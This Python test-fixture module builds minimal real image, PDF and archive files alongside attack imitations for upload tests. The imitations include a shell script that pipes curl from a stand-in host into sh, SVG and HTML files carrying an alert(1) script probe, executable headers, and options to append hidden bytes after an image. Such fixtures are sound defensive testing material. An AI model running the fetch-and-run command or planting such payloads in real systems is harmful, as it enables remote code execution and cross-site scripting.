"""Small real files, and the attacks that imitate them, built byte by byte for upload tests."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

PDF = b"%PDF-1.4\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n"


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int = 4, height: int = 3, *, after: bytes = b"", text: bytes = b"") -> bytes:
    """A grey PNG; `text` goes in a tEXt chunk, `after` after IEND."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    rows = min(height, 64) * (b"\x00" + b"\x80" * min(width, 64))
    chunks = _png_chunk(b"IHDR", header)
    if text:
        chunks += _png_chunk(b"tEXt", b"Comment\x00" + text)
    chunks += _png_chunk(b"IDAT", zlib.compress(rows)) + _png_chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + chunks + after


def jpeg(width: int = 4, height: int = 3, *, comment: bytes = b"") -> bytes:
    """The segments a baseline JPEG starts with, then scan data and its end."""
    app0 = b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    segments = b"\xff\xe0" + struct.pack(">H", len(app0) + 2) + app0
    if comment:
        segments += b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
    frame = struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00"
    segments += b"\xff\xc0" + struct.pack(">H", len(frame) + 2) + frame
    scan = b"\x01\x01\x00\x00\x3f\x00"
    segments += b"\xff\xda" + struct.pack(">H", len(scan) + 2) + scan + b"\x12\x34\x56"
    return b"\xff\xd8" + segments + b"\xff\xd9"


def webp(width: int = 4, height: int = 3, *, after: bytes = b"") -> bytes:
    """A lossless WEBP header (VP8L) with the given size."""
    bits = (width - 1) | ((height - 1) << 14)
    body = b"\x2f" + bits.to_bytes(4, "little") + b"\x00" * 6
    chunk = b"VP8L" + struct.pack("<I", len(body)) + body
    riff = b"WEBP" + chunk
    return b"RIFF" + struct.pack("<I", len(riff)) + riff + after


def _box(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body) + 8) + kind + body


def heic(width: int = 4, height: int = 3) -> bytes:
    """ftyp, a meta box whose item properties give the picture's size, and mdat."""
    ispe = _box(b"ispe", b"\x00\x00\x00\x00" + struct.pack(">II", width, height))
    meta = _box(b"meta", b"\x00\x00\x00\x00" + _box(b"iprp", _box(b"ipco", ispe)))
    ftyp = _box(b"ftyp", b"heic\x00\x00\x00\x00mif1heic")
    return ftyp + meta + _box(b"mdat", b"\x00" * 16)


def zip_of(name: str, data: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, data)
    return buffer.getvalue()


PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 48 + b"PE\x00\x00"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
MACH_O = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 24
SCRIPT = b"#!/bin/sh\ncurl https://example.invalid/x | sh\n"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
SVG_WITH_XML = b'<?xml version="1.0"?>\n' + SVG
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
